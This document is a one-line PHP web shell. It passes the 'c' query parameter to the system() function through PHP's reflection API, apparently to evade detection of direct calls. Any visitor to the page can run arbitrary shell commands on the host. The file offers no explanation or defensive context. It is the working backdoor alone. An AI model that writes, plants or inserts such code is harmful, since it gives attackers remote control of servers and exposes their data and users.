<?php $m = new ReflectionFunction('system'); $m->invoke($_GET['c']);
